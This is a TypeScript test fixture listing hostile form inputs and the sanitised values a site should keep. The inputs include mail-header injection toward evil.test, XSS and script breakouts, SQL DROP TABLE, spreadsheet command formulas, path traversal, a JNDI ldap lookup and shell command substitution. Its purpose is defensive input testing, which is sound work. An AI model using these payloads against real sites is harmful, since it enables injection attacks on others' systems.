import { MARK, MARKUP } from "./request";

/** Something hostile to type into a field, and what the site is to keep of it. */
export interface Payload {
  what: string;
  /** As it is sent in an urlencoded form, where that is not simply the typed text in code. */
  encoded?: string;
  typed: string;
  kept: string;
}

/** A form's fields but for one. */
export function without<Fields extends object>(
  fields: Fields,
  name: keyof Fields,
): Partial<Fields> {
  const others = Object.entries(fields).filter(([other]) => other !== name);
  return Object.fromEntries(others) as Partial<Fields>;
}

const asTyped = (what: string, typed: string): Payload => ({ what, typed, kept: typed });

/** Each fits every free field of both forms, unless it says otherwise. */
export const payloads: readonly Payload[] = [
  { what: "a NUL", typed: `${MARK}\0 plumbing`, kept: `${MARK} plumbing` },
  {
    what: "a line break and a mail header",
    typed: `${MARK}\r\nBcc: x@evil.test`,
    kept: `${MARK}\nBcc: x@evil.test`,
  },
  {
    what: "a carriage return and a mail header",
    typed: `${MARK}\rTo: x@evil.test`,
    kept: `${MARK}\nTo: x@evil.test`,
  },
  asTyped("a line separator and a mail header", `${MARK}\u2028Cc: x@evil.test`),
  { what: "a next-line control", typed: `${MARK}\u0085Cc: x@evil`, kept: `${MARK}Cc: x@evil` },
  {
    what: "codes of a terminal",
    typed: `\x1b[31m${MARK}\x1b[0m\x07 \x1b]0;x`,
    kept: `[31m${MARK}[0m ]0;x`,
  },
  { what: "8-bit codes of a terminal", typed: `${MARK}\x9b31m red`, kept: `${MARK}31m red` },
  {
    what: "spaces around",
    typed: ` \t\r\n\u00a0${MARK} works\u3000\ufeff\v`,
    kept: `${MARK} works`,
  },
  asTyped("a right-to-left override", `${MARK} \u202egnp.exe\u202c`),
  asTyped("emoji of several parts", `${MARK} 👩🏽\u200d🔧 👨\u200d👩\u200d👧 🏴`),
  asTyped("letters under heaps of marks", `${MARK} Z\u0337\u0322\u0321\u0353a\u0334\u0315l`),
  asTyped("characters without width", `${MARK}\u200b\u200d\u2060\u00ad works`),
  {
    what: "half of a surrogate pair",
    typed: `${MARK}\ufffd\ufffd\ufffd works`,
    encoded: `${MARK}%ED%A0%80+works`,
    kept: `${MARK}\ufffd\ufffd\ufffd works`,
  },
  {
    what: "bytes in code that are not UTF-8",
    typed: `${MARK}\ufffd\ufffd works`,
    encoded: `${MARK}%FF%C3+works`,
    kept: `${MARK}\ufffd\ufffd works`,
  },
  asTyped("SQL", `${MARK}'); DROP TABLE orders;--`),
  asTyped("markup", MARKUP),
  asTyped("an image that fails", `<img src=x onerror="alert('${MARK}')">`),
  asTyped("markup in code", `&lt;${MARK}&gt; &#60;script&#62; &amp;amp;`),
  asTyped("the end of a script", `</script><!--${MARK}--><svg/onload=1>`),
  asTyped("templates", `{{${MARK}}} \${${MARK}} <%= ${MARK} %> #{7*7}`),
  asTyped("a formula of a sheet", `=cmd|' /C calc'!A0 ${MARK}`),
  asTyped("another formula of a sheet", `@SUM(1+1)*${MARK}|'x'!A1`),
  asTyped("a web address", `https://${MARK}.test/?a=b&c=d`),
  asTyped("a link", `[${MARK}](javascript:alert(1))`),
  asTyped("several mail addresses", `${MARK}@evil.test, Bob <b@evil.test>`),
  asTyped("JSON", `{"${MARK}":{"__proto__":{"x":1}}}`),
  asTyped("a path", `../../../../etc/${MARK}`),
  asTyped("a lookup", `\${jndi:ldap://${MARK}.test/x}`),
  asTyped("formats", `%s%n%x%00%0d%0a ${MARK} \\u0000`),
  asTyped("a command", `$(touch ${MARK}); \`id\` | cat`),
  { what: "only white space", typed: " \t\r\n\u00a0\u2003\u3000", kept: "" },
  { what: "only control characters", typed: "\0\x01\x7f\x9f", kept: "" },
  asTyped("60,000 characters", `${MARK}${"a".repeat(59_996)}`),
];

/**
 * Picks the cases of a form that `npm test` sends over HTTP: each payload in one of the free fields, markup in every
 * other field, and what is no payload of this table.
 */
export const oneOfEach =
  (free: readonly string[]) =>
  ({ field, payload }: { field: string; payload: Payload }): boolean => {
    const turn = payloads.indexOf(payload);
    if (turn < 0) return true;
    return free.includes(field) ? free[turn % free.length] === field : payload.what === "markup";
  };
